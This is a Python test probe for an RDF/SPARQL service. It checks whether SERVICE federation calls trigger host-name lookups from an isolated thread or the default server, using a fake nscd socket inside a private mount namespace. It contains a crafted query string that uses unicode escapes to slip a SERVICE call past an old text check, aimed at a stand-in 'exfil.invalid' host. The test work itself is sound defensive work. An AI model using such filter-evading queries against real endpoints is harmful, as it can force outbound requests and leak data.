"""The probe of issue 49, run by tests/kb/test_name_lookups.py inside a private mount namespace (``unshare --mount``).

A fake nscd listens on /run/nscd/socket (on a tmpfs over /run, in this namespace only) and records every request
it receives: glibc asks nscd for a host name before anything else, over a Unix socket that a network namespace
does not hide. ``python name_lookup_probe.py KB`` prints one JSON object:

* ``asked``: whether a plain process here asks the fake nscd at all (else the probe proves nothing);
* ``offline``: what pyoxigraph met on an :class:`~kqe_rdf.service.isolation.OfflineThread` for a name that
  resolves (``localhost``) and one that does not, and the answer each is given;
* ``server``: the status and body of a default server's answers to SERVICE calls the guard's old text check
  missed (the escape trick), to a name that resolves and to one that does not;
* ``heard``: the names the fake nscd received while the offline thread and the server ran.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))  # tests/, for support.*

#: The issue's escape trick: the old check read SERVICE as part of a string; Oxigraph reads a call.
TRICK = ('SELECT * {{ BIND("p\\u0022q" AS ?z) VALUES ?v {{ <urn:x\\u0041#> }} '
         'SERVICE <http://{host}/sparql> {{ ?x ?p ?o }} }} #"')
SECRET, KNOWN = "probe5-leak.exfil.invalid", "localhost"


class FakeNscd:
    """A Unix socket at /run/nscd/socket that keeps whatever is sent to it and hangs up."""

    def __init__(self) -> None:
        os.makedirs("/run/nscd", exist_ok=True)
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind("/run/nscd/socket")
        self.sock.listen(16)
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            conn, _ = self.sock.accept()
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(4096))
                except OSError:
                    pass

    def heard(self) -> list[str]:
        return [data.decode("latin-1") for data in self.received]


def _lookup_in_a_fresh_process(name: str) -> None:
    """glibc stops asking nscd for a while after it failed once: each lookup here is a process of its own."""
    subprocess.run([sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo({name!r}, 80)\nexcept OSError: pass"],
                   timeout=30, check=False)


def _offline() -> dict:
    code = ("import json, sys; from pyoxigraph import Store; from kqe_rdf.service.isolation import OfflineThread;"
            "from kqe_rdf.service.federation import cut_off; t = OfflineThread(); out = {'active': t.active};\n"
            f"for host in {[SECRET, KNOWN]!r}:\n"
            "    try:\n"
            "        t.run(lambda: list(Store().query('SELECT * { SERVICE <http://%s/sparql> { ?s ?p ?o } }' % host)))\n"
            "        out[host] = ['no error', '']\n"
            "    except OSError as exc:\n"
            "        answer = cut_off(exc, True)\n"  # (issue 49's isolated=; before it, cut_off(exc))
            "        out[host] = [str(exc), str(answer) if answer else 'none']\n"
            "print(json.dumps(out))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    return json.loads(done.stdout) if done.returncode == 0 else {"error": done.stderr[-2000:]}


def main(kb_path: str) -> None:
    import httpx

    from kqe_rdf.core.config import Settings
    from kqe_rdf.kb.knowledge_base import KnowledgeBase
    from kqe_rdf.service.app import create_app
    from support.live_servers import serving

    subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/run"], check=True)
    nscd = FakeNscd()
    _lookup_in_a_fresh_process("sanity-check.exfil.invalid")
    out = {"asked": any("sanity-check.exfil.invalid" in r for r in nscd.heard())}
    nscd.received.clear()
    out["offline"] = _offline()
    server = {}
    with serving(create_app(KnowledgeBase.open(kb_path), Settings())) as url:
        for host in (SECRET, KNOWN):
            response = httpx.post(url + "/sparql", content=TRICK.format(host=host).encode(), timeout=60,
                                  headers={"Content-Type": "application/sparql-query"})
            server[host] = [response.status_code, response.text.replace(host, "HOST")]
    out["server"], out["heard"] = server, nscd.heard()
    print(json.dumps(out))


if __name__ == "__main__":
    main(sys.argv[1])
